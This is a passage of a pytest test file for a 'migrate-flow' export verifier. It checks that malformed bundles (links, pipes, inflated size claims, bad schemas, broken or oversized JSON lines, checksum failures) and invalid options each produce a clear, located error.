        ),
        "a link": (kind_of_file(0o120777), "'changes.csv' is a link or a device"),
        "a pipe": (kind_of_file(0o010644), "'changes.csv' is a link or a device"),
        "a bomb": (saying(2 << 30), "unpacks to far more"),
        "a lie about sizes": (saying(1), "header.json is no JSON"),
        "another schema": (
            b'{"schema": "migrate-flow/export/2", "header": {}}\n',
            "its schema is 'migrate-flow/export/2'",
        ),
        "no schema": (b'{"a": 1}\n', "its schema is 'None'"),
        "an empty header": (b'{"schema": "migrate-flow/export/1", "header": {}}\n', "its header is not one of ours"),
        "a list as header": (b'{"schema": "migrate-flow/export/1", "header": []}\n', "its header is not one of ours"),
        "a broken first line": (b"{\n", "line 1 can't be read: it is no JSON"),
        "a deep first line": (b'{"a":' * 90_000, "line 1 can't be read"),
        "a huge line": (b"{" + b" " * LONGEST_LINE, "line 1 can't be read: it is longer than 16 MiB"),
    }


NO_EXPORT = tuple(no_export(b""))


@pytest.mark.parametrize("name", NO_EXPORT)
def test_what_is_no_export_is_one_error_that_says_why(name: str, whole: Sample, file: Path) -> None:
    data, words = no_export(bundled(whole))[name]
    with pytest.raises(UsageError) as caught:
        check(file, data)
    assert words in caught.value.message
    assert caught.value.hint
    assert str(file) in caught.value.where


BROKEN_LINES: dict[str, tuple[bytes, str]] = {
    "cut": (b'{"seq": 3, "prev', "it is no JSON"),
    "list": (b"[]", "it is no JSON object"),
    "empty": (b"", "it is no JSON"),
    "key missing": (b'{"seq": 3}', "not right"),
    "not UTF-8": (b'{"seq": "\xff"}', "it is no JSON"),
    "twice": (b'{"seq": 3, "seq": 4}', "it is no JSON (duplicate key)"),
}


@pytest.mark.parametrize("name", BROKEN_LINES)
def test_a_broken_line_is_named_by_its_number(name: str, whole: Sample, file: Path) -> None:
    line, words = BROKEN_LINES[name]
    found = lines(whole).splitlines(keepends=True)
    with pytest.raises(UsageError) as caught:
        check(file, b"".join([*found[:3], line + b"\n", *found[4:]]))
    assert caught.value.message.startswith("line 4 can't be read")
    assert words in caught.value.message
    assert caught.value.where == f"{file}:4"


@pytest.mark.parametrize("values", [{"seq": "3"}, {"seq": True}, {"seq": 0}, {"hash": None}, {"statement": "\ud800"}])
def test_a_value_of_another_type_is_named_by_its_line(values: dict[str, Any], whole: Sample, file: Path) -> None:
    found = edited_line(3, lambda line: line.update(values))(lines(whole).splitlines(keepends=True))
    with pytest.raises(UsageError, match=r"^line 4 can't be read"):
        check(file, b"".join(found))


def test_a_member_with_a_flipped_bit_is_named(whole: Sample, file: Path) -> None:
    data = bytearray(bundled(whole))
    at = data.find(b"which lock?")
    data[at] ^= 1
    report = check(file, bytes(data))
    assert any("zip's own checksum" in problem.problem and problem.seq == 4 for problem in report.problems)


def test_a_folder_and_a_file_that_is_not_there_are_said_to_be_so(tmp_path: Path) -> None:
    for path, words in ((tmp_path, "is no file"), (tmp_path / "none", "No such file")):
        with pytest.raises(UsageError, match=words), opened(path):
            pass


def test_options_are_checked() -> None:
    assert parse_genesis("sha256:" + "a" * 64) == parse_genesis("a" * 64) == "a" * 64
    for wrong in ("", "a" * 63, "md5:" + "a" * 64):
        with pytest.raises(UsageError):
            parse_genesis(wrong)
    with pytest.raises(UsageError) as caught:
        parse_since("7")
    assert "verify FILE --since" in caught.value.hint
